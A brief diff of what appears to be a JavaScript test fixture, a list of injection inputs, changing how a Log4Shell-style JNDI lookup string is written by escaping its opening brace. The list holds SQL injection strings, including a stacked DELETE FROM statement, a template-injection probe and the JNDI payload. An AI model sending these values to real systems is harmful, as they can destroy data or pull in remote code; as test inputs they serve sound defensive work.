@@ -30,7 +30,7 @@ const INJECTIONS = [
   '1; ATTACH',
   '$$; DELETE FROM party; $$',
   "SMITH' AND 1=(SELECT 1/0)--",
-  '${jndi:ldap://x}',
+  '$\u007bjndi:ldap://x}',
   '{{7*7}}',
   '%27%20OR%201=1',
   '\u02bc OR 1=1',
